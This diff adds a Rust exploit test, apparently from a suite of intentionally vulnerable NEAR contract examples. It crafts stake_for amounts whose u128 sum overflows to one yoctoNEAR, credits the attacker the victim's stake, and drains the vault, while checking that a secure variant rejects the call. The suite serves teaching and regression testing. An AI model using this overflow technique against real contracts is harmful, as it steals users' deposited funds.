@@ -0,0 +1,61 @@
+//! A wrapped batch sum passes the deposit check with one yoctoNEAR
+
+use anyhow::{ensure, Result as AnyResult};
+use near_workspaces::types::NearToken;
+use serde_json::json;
+
+use crate::{ExploitSpec, Sandbox, CONTRACT_BALANCE};
+
+pub const SPEC: ExploitSpec = ExploitSpec {
+    example: "balance_overflow",
+    description: "stake_for amounts summing past u128::MAX credit the whole vault",
+    must_succeed: || Box::pin(attack("balance_overflow")),
+    must_fail: || Box::pin(attack("balance_overflow_secure")),
+    rejection: "Amount overflow",
+};
+
+const STAKE: NearToken = NearToken::from_near(10);
+
+async fn attack(contract: &'static str) -> AnyResult<()> {
+    let s = Sandbox::new().await?;
+    let vault = s
+        .deploy(contract, "vault", CONTRACT_BALANCE, json!({}))
+        .await?;
+    s.victim
+        .call(vault.id(), "stake")
+        .args_json(json!({ "lock_days": 0 }))
+        .deposit(STAKE)
+        .transact()
+        .await?
+        .into_result()?;
+
+    // STAKE + (u128::MAX - STAKE + 2) wraps to 1
+    let stolen = STAKE.as_yoctonear();
+    let filler = u128::MAX - stolen + 2;
+    s.attacker
+        .call(vault.id(), "stake_for")
+        .args_json(json!({
+            "recipients": [
+                [s.attacker.id(), stolen.to_string()],
+                [s.owner.id(), filler.to_string()],
+            ]
+        }))
+        .deposit(NearToken::from_yoctonear(1))
+        .transact()
+        .await?
+        .into_result()?;
+
+    let before = s.balance(s.attacker.id()).await?;
+    s.attacker
+        .call(vault.id(), "unstake")
+        .transact()
+        .await?
+        .into_result()?;
+
+    let gained = s.balance(s.attacker.id()).await?.saturating_sub(before);
+    ensure!(
+        gained > STAKE.saturating_sub(NearToken::from_millinear(100)),
+        "attacker only gained {gained}"
+    );
+    Ok(())
+}